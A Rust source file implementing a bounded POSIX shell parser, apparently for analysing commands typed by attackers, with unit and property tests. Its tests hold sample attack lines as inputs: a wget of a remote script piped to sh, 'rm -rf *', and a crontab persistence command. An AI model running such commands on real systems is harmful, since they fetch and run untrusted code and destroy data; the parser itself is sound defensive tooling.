//! Shell text to a small syntax tree: enough of the POSIX grammar for what attackers type.
//!
//! The grammar is XCU chapter 2 less functions, `case` and job control. Depth and size have limits; text beyond them is a
//! syntax error, never a hang.

/// Nested groups, loops and conditions.
const DEPTH: usize = 16;
/// Commands of one text.
const COMMANDS: usize = 512;

/// One piece of a word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Piece {
    /// Literal text; quoted text is neither split nor globbed.
    Text(String, bool),
    /// A parameter: what stands between `${` and `}`.
    Var(String, bool),
    /// A command substitution.
    Run(String, bool),
    /// An arithmetic expansion.
    Math(String),
}

/// A word before expansion.
pub(super) type Word = Vec<Piece>;

/// Where a redirection leads.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Redirect {
    /// `n> word` or `n>> word`.
    Out { fd: u8, append: bool, to: Word },
    /// `&> word`.
    Both { append: bool, to: Word },
    /// `n>&m`.
    Dup { fd: u8, to: u8 },
    /// `< word`.
    In { from: Word },
    /// `<< word` with its text.
    Here { text: String, expand: bool },
}

/// How a command follows the one before.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Link {
    /// `;`, `&` or a new line.
    Then,
    /// `&&`.
    And,
    /// `||`.
    Or,
}

/// A command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Command {
    /// Words and redirections.
    Simple(Vec<Word>, Vec<Redirect>),
    /// `a | b | c`, possibly negated.
    Pipe(Vec<Self>, bool),
    /// Commands in order.
    List(Vec<(Link, Self)>),
    /// `if`: conditions with what they lead to, and the rest.
    If(Vec<(Self, Self)>, Option<Box<Self>>),
    /// `while` or `until` (true).
    Loop(bool, Box<Self>, Box<Self>),
    /// `for name in words`.
    For(String, Vec<Word>, Box<Self>),
    /// A group or subshell with redirections.
    Group(Box<Self>, Vec<Redirect>),
}

/// Why text is no command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Fault {
    /// More text is needed: an open quote, group or here-document.
    Incomplete,
    /// An unexpected token.
    Syntax(String),
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Token {
    Word(Word),
    Redirect(Redirect),
    Op(&'static str),
    End,
}

/// Reads a whole text.
pub(super) fn parse(text: &str) -> Result<Command, Fault> {
    let tokens = Lexer { chars: text.chars().collect(), at: 0, heres: Vec::new(), tokens: Vec::new() }.run()?;
    let mut parser = Parser { tokens, at: 0, depth: 0, commands: 0 };
    let list = parser.list(&[])?;
    match parser.peek() {
        Token::End => Ok(list),
        other => Err(Fault::Syntax(show(other))),
    }
}

fn show(token: &Token) -> String {
    match token {
        Token::Op("\n") | Token::End => "newline".to_owned(),
        Token::Op(op) => (*op).to_owned(),
        Token::Word(word) => literal(word).unwrap_or_else(|| "word".to_owned()),
        Token::Redirect(_) => ">".to_owned(),
    }
}

/// The text of a word without expansions or quotes, for keywords and names.
fn literal(word: &Word) -> Option<String> {
    match word.as_slice() {
        [Piece::Text(text, false)] => Some(text.clone()),
        _ => None,
    }
}

struct Lexer {
    chars: Vec<char>,
    at: usize,
    /// Here-documents that wait for the end of their line: token to fill, delimiter, expand, strip tabs.
    heres: Vec<(usize, String, bool, bool)>,
    tokens: Vec<Token>,
}

impl Lexer {
    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.at + ahead).copied()
    }

    fn eat(&mut self, text: &str) -> bool {
        let fits = text.chars().enumerate().all(|(i, c)| self.peek(i) == Some(c));
        if fits {
            self.at += text.chars().count();
        }
        fits
    }

    fn run(mut self) -> Result<Vec<Token>, Fault> {
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' => self.at += 1,
                '\\' if self.peek(1) == Some('\n') => self.at += 2,
                '#' => {
                    while self.peek(0).is_some_and(|c| c != '\n') {
                        self.at += 1;
                    }
                }
                '\n' => {
                    self.at += 1;
                    self.tokens.push(Token::Op("\n"));
                    self.here_documents()?;
                }
                '<' | '>' => self.redirect(None)?,
                '&' if self.peek(1) == Some('>') => self.redirect(None)?,
                '0'..='9' if matches!(self.peek(1), Some('<' | '>')) => {
                    self.at += 1;
                    self.redirect(c.to_digit(10).and_then(|d| u8::try_from(d).ok()))?;
                }
                _ => {
                    if let Some(op) =
                        ["&&", "||", ";;", "|&", ";", "&", "|", "(", ")"].into_iter().find(|op| self.eat(op))
                    {
                        self.tokens.push(Token::Op(if op == "|&" { "|" } else { op }));
                    } else {
                        let word = self.word()?;
                        self.tokens.push(Token::Word(word));
                    }
                }
            }
        }
        if self.heres.is_empty() {
            self.tokens.push(Token::End);
            Ok(self.tokens)
        } else {
            Err(Fault::Incomplete)
        }
    }

    fn blanks(&mut self) {
        while matches!(self.peek(0), Some(' ' | '\t')) {
            self.at += 1;
        }
    }

    fn redirect(&mut self, fd: Option<u8>) -> Result<(), Fault> {
        let op = ["&>>", "&>", "<<<", "<<-", "<<", ">>", ">&", "<&", ">|", "<>", ">", "<"]
            .into_iter()
            .find(|op| self.eat(op));
        self.blanks();
        if matches!(op, Some(">&" | "<&"))
            && let Some(to) = self.peek(0).filter(|c| c.is_ascii_digit() || *c == '-')
        {
            self.at += 1;
            let to = to.to_digit(10).and_then(|d| u8::try_from(d).ok()).unwrap_or(9);
            self.tokens.push(Token::Redirect(Redirect::Dup { fd: fd.unwrap_or(1), to }));
            return Ok(());
        }
        let word = self.word()?;
        if word.is_empty() {
            return Err(Fault::Syntax(self.peek(0).map_or_else(|| "newline".to_owned(), |c| c.to_string())));
        }
        let redirect = match op {
            Some("<") | Some("<>") | Some("<&") => Redirect::In { from: word },
            Some("<<<") => Redirect::Here { text: flat(&word), expand: true },
            Some(here @ ("<<" | "<<-")) => {
                let expand = !word.iter().any(|p| matches!(p, Piece::Text(_, true)));
                self.heres.push((self.tokens.len(), flat(&word), expand, here == "<<-"));
                Redirect::Here { text: String::new(), expand }
            }
            Some("&>") | Some("&>>") | Some(">&") => Redirect::Both { append: op == Some("&>>"), to: word },
            _ => Redirect::Out { fd: fd.unwrap_or(1), append: op == Some(">>"), to: word },
        };
        self.tokens.push(Token::Redirect(redirect));
        Ok(())
    }

    fn here_documents(&mut self) -> Result<(), Fault> {
        for (token, delimiter, expand, strip) in std::mem::take(&mut self.heres) {
            let mut text = String::new();
            loop {
                if self.at >= self.chars.len() {
                    return Err(Fault::Incomplete);
                }
                let mut line = String::new();
                while let Some(c) = self.peek(0).filter(|c| *c != '\n') {
                    line.push(c);
                    self.at += 1;
                }
                self.at += 1;
                let line = if strip { line.trim_start_matches('\t') } else { line.as_str() };
                if line.trim_end_matches('\r') == delimiter {
                    break;
                }
                text.push_str(line);
                text.push('\n');
            }
            if let Some(slot) = self.tokens.get_mut(token) {
                *slot = Token::Redirect(Redirect::Here { text, expand });
            }
        }
        Ok(())
    }

    fn word(&mut self) -> Result<Word, Fault> {
        let mut word = Word::new();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\r' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')' => break,
                '\'' => {
                    self.at += 1;
                    let text = self.until('\'')?;
                    word.push(Piece::Text(text, true));
                }
                '"' => {
                    self.at += 1;
                    self.double_quoted(&mut word)?;
                }
                '\\' => {
                    self.at += 1;
                    match self.peek(0) {
                        None => return Err(Fault::Incomplete),
                        Some('\n') => {}
                        Some(c) => word.push(Piece::Text(c.to_string(), true)),
                    }
                    self.at += 1;
                }
                '$' | '`' => self.expansion(&mut word, false)?,
                c => {
                    self.at += 1;
                    push_text(&mut word, c, false);
                }
            }
        }
        Ok(word)
    }

    fn until(&mut self, end: char) -> Result<String, Fault> {
        let mut out = String::new();
        while let Some(c) = self.peek(0) {
            self.at += 1;
            if c == end {
                return Ok(out);
            }
            out.push(c);
        }
        Err(Fault::Incomplete)
    }

    fn double_quoted(&mut self, word: &mut Word) -> Result<(), Fault> {
        word.push(Piece::Text(String::new(), true));
        while let Some(c) = self.peek(0) {
            match c {
                '"' => {
                    self.at += 1;
                    return Ok(());
                }
                '\\' if matches!(self.peek(1), Some('$' | '`' | '"' | '\\' | '\n')) => {
                    if let Some(c) = self.peek(1).filter(|c| *c != '\n') {
                        push_text(word, c, true);
                    }
                    self.at += 2;
                }
                '$' | '`' => self.expansion(word, true)?,
                c => {
                    self.at += 1;
                    push_text(word, c, true);
                }
            }
        }
        Err(Fault::Incomplete)
    }

    fn expansion(&mut self, word: &mut Word, quoted: bool) -> Result<(), Fault> {
        if self.eat("`") {
            let text = self.until('`')?;
            word.push(Piece::Run(text, quoted));
        } else if self.eat("$((") {
            let text = self.balanced("((", 2)?;
            word.push(Piece::Math(text));
        } else if self.eat("$(") {
            let text = self.balanced("(", 1)?;
            word.push(Piece::Run(text, quoted));
        } else if self.eat("${") {
            let text = self.until('}')?;
            word.push(Piece::Var(text, quoted));
        } else {
            self.at += 1;
            match self.peek(0) {
                Some(c) if c == '_' || c.is_ascii_alphabetic() => {
                    let mut name = String::new();
                    while let Some(c) = self.peek(0).filter(|c| *c == '_' || c.is_ascii_alphanumeric()) {
                        name.push(c);
                        self.at += 1;
                    }
                    word.push(Piece::Var(name, quoted));
                }
                Some(c @ ('?' | '$' | '#' | '!' | '@' | '*' | '-' | '0'..='9')) => {
                    self.at += 1;
                    word.push(Piece::Var(c.to_string(), quoted));
                }
                Some('\'') if !quoted => {}
                _ => push_text(word, '$', quoted),
            }
        }
        Ok(())
    }

    /// The text up to the parenthesis that closes `open` ones; quotes inside are respected.
    fn balanced(&mut self, _open: &str, open: usize) -> Result<String, Fault> {
        let (mut depth, mut out) = (open, String::new());
        let mut quote = None;
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match (quote, c) {
                (Some(q), c) if q == c => quote = None,
                (None, '\'' | '"') => quote = Some(c),
                (None, '(') => depth += 1,
                (None, ')') => {
                    depth -= 1;
                    if depth == 0 {
                        if open == 2 {
                            out.pop();
                        }
                        return Ok(out);
                    }
                }
                _ => {}
            }
            out.push(c);
        }
        Err(Fault::Incomplete)
    }
}

fn push_text(word: &mut Word, c: char, quoted: bool) {
    match word.last_mut() {
        Some(Piece::Text(text, q)) if *q == quoted => text.push(c),
        _ => word.push(Piece::Text(c.to_string(), quoted)),
    }
}

fn flat(word: &Word) -> String {
    word.iter().fold(String::new(), |mut out, piece| {
        match piece {
            Piece::Text(text, _) => out.push_str(text),
            Piece::Var(name, _) => {
                out.push('$');
                out.push_str(name);
            }
            Piece::Run(text, _) | Piece::Math(text) => out.push_str(text),
        }
        out
    })
}

struct Parser {
    tokens: Vec<Token>,
    at: usize,
    depth: usize,
    commands: usize,
}

impl Parser {
    fn peek(&self) -> &Token {
        self.tokens.get(self.at).unwrap_or(&Token::End)
    }

    fn is_op(&self, op: &str) -> bool {
        matches!(self.peek(), Token::Op(o) if *o == op)
    }

    fn eat_op(&mut self, op: &str) -> bool {
        let is = self.is_op(op);
        self.at += usize::from(is);
        is
    }

    fn keyword(&self) -> Option<String> {
        match self.peek() {
            Token::Word(word) => literal(word),
            _ => None,
        }
    }

    fn eat_keyword(&mut self, word: &str) -> bool {
        let is = self.keyword().as_deref() == Some(word);
        self.at += usize::from(is);
        is
    }

    fn expect(&mut self, word: &str) -> Result<(), Fault> {
        if self.eat_keyword(word) { Ok(()) } else { Err(self.fault()) }
    }

    fn fault(&self) -> Fault {
        match self.peek() {
            Token::End => Fault::Incomplete,
            other => Fault::Syntax(show(other)),
        }
    }

    /// A list up to the end, a closing parenthesis or one of the `stop` words.
    fn list(&mut self, stop: &[&str]) -> Result<Command, Fault> {
        self.depth += 1;
        if self.depth > DEPTH {
            return Err(Fault::Syntax("(".to_owned()));
        }
        let mut out = Vec::new();
        let mut link = Link::Then;
        loop {
            while self.is_op("\n") || (self.is_op(";") && !out.is_empty() && link == Link::Then) {
                self.at += 1;
            }
            let stops = self.keyword().is_some_and(|k| stop.contains(&k.as_str()));
            if matches!(self.peek(), Token::End) || self.is_op(")") || stops {
                if link != Link::Then {
                    return Err(self.fault());
                }
                break;
            }
            let pipe = self.pipe()?;
            out.push((link, pipe));
            link = if self.eat_op("&&") {
                Link::And
            } else if self.eat_op("||") {
                Link::Or
            } else if self.eat_op(";") || self.eat_op("&") || self.eat_op("\n") {
                Link::Then
            } else if matches!(self.peek(), Token::End) || self.is_op(")") {
                break;
            } else {
                return Err(self.fault());
            };
        }
        self.depth -= 1;
        Ok(Command::List(out))
    }

    fn pipe(&mut self) -> Result<Command, Fault> {
        let negated = self.eat_keyword("!");
        let mut parts = vec![self.command()?];
        while self.eat_op("|") {
            while self.eat_op("\n") {}
            parts.push(self.command()?);
        }
        match (negated, parts.pop()) {
            (false, Some(only)) if parts.is_empty() => Ok(only),
            (_, last) => {
                parts.extend(last);
                Ok(Command::Pipe(parts, negated))
            }
        }
    }

    fn command(&mut self) -> Result<Command, Fault> {
        self.commands += 1;
        if self.commands > COMMANDS {
            return Err(Fault::Syntax(";".to_owned()));
        }
        if self.eat_op("(") {
            let body = self.list(&[])?;
            if !self.eat_op(")") {
                return Err(self.fault());
            }
            return Ok(Command::Group(Box::new(body), self.redirects()));
        }
        match self.keyword().as_deref() {
            Some("{") => {
                self.at += 1;
                let body = self.list(&["}"])?;
                self.expect("}")?;
                Ok(Command::Group(Box::new(body), self.redirects()))
            }
            Some("if") => {
                let condition = self.condition()?;
                Ok(self.with_redirects(condition))
            }
            Some(word @ ("while" | "until")) => {
                self.at += 1;
                let until = word == "until";
                let test = self.list(&["do"])?;
                let body = self.body()?;
                Ok(self.with_redirects(Command::Loop(until, Box::new(test), Box::new(body))))
            }
            Some("for") => {
                let looped = self.for_loop()?;
                Ok(self.with_redirects(looped))
            }
            Some(word @ ("then" | "fi" | "do" | "done" | "else" | "elif" | "}")) => Err(Fault::Syntax(word.to_owned())),
            _ => self.simple(),
        }
    }

    fn body(&mut self) -> Result<Command, Fault> {
        self.expect("do")?;
        let body = self.list(&["done"])?;
        self.expect("done")?;
        Ok(body)
    }

    fn condition(&mut self) -> Result<Command, Fault> {
        let mut arms = Vec::new();
        let mut other = None;
        self.at += 1;
        loop {
            let test = self.list(&["then"])?;
            self.expect("then")?;
            let body = self.list(&["elif", "else", "fi"])?;
            arms.push((test, body));
            if self.eat_keyword("elif") {
                continue;
            }
            if self.eat_keyword("else") {
                other = Some(Box::new(self.list(&["fi"])?));
            }
            self.expect("fi")?;
            return Ok(Command::If(arms, other));
        }
    }

    fn for_loop(&mut self) -> Result<Command, Fault> {
        self.at += 1;
        let name = self.keyword().ok_or_else(|| self.fault())?;
        self.at += 1;
        let mut words = Vec::new();
        if self.eat_keyword("in") {
            while let Token::Word(word) = self.peek() {
                words.push(word.clone());
                self.at += 1;
            }
        }
        while self.eat_op(";") || self.eat_op("\n") {}
        let body = self.body()?;
        Ok(Command::For(name, words, Box::new(body)))
    }

    fn redirects(&mut self) -> Vec<Redirect> {
        let mut out = Vec::new();
        while let Token::Redirect(redirect) = self.peek() {
            out.push(redirect.clone());
            self.at += 1;
        }
        out
    }

    /// A loop or condition with the redirections behind its last word.
    fn with_redirects(&mut self, command: Command) -> Command {
        let redirects = self.redirects();
        if redirects.is_empty() { command } else { Command::Group(Box::new(command), redirects) }
    }

    fn simple(&mut self) -> Result<Command, Fault> {
        let (mut words, mut redirects) = (Vec::new(), Vec::new());
        loop {
            match self.peek() {
                Token::Word(word) => words.push(word.clone()),
                Token::Redirect(redirect) => redirects.push(redirect.clone()),
                _ => break,
            }
            self.at += 1;
        }
        if words.is_empty() && redirects.is_empty() { Err(self.fault()) } else { Ok(Command::Simple(words, redirects)) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn count(command: &Command) -> usize {
        match command {
            Command::List(list) => list.len(),
            _ => 1,
        }
    }

    #[test]
    fn reads_what_attackers_type() {
        for (text, commands) in [
            ("cd /tmp; wget http://203.0.113.9/x.sh -O- | sh", 2),
            ("cd /tmp || cd /var/run || cd /mnt && rm -rf *;", 4),
            ("for i in a b; do echo $i; done", 1),
            ("if [ -f /x ]; then echo y; else echo n; fi; id", 2),
            ("while true; do sleep 1; done &", 1),
            ("echo -ne '\\x7f\\x45' > .x 2>/dev/null", 1),
            ("cat <<EOF > /tmp/a\nline\nEOF\nls", 2),
            ("(crontab -l; echo x) | crontab -", 1),
            ("", 0),
            ("# only a remark", 0),
        ] {
            assert_eq!(parse(text).map(|c| count(&c)), Ok(commands), "{text}");
        }
    }

    #[test]
    fn tells_unfinished_from_wrong() {
        for text in ["echo 'a", "echo \"a", "if true; then", "cat <<EOF\nx", "(ls", "echo $(ls", "a &&"] {
            assert_eq!(parse(text), Err(Fault::Incomplete), "{text}");
        }
        for text in [")", "| a", "&& b", "done", "> ;", "fi"] {
            assert!(matches!(parse(text), Err(Fault::Syntax(_))), "{text}");
        }
    }

    #[test]
    fn nesting_is_bounded() {
        assert!(parse(&"(".repeat(4000)).is_err());
        assert!(parse(&"if ".repeat(1000)).is_err());
    }

    proptest! {
        #[test]
        fn any_text_is_read_without_panic(text in "[ -~\n]{0,200}") {
            let _ = parse(&text);
        }
    }
}
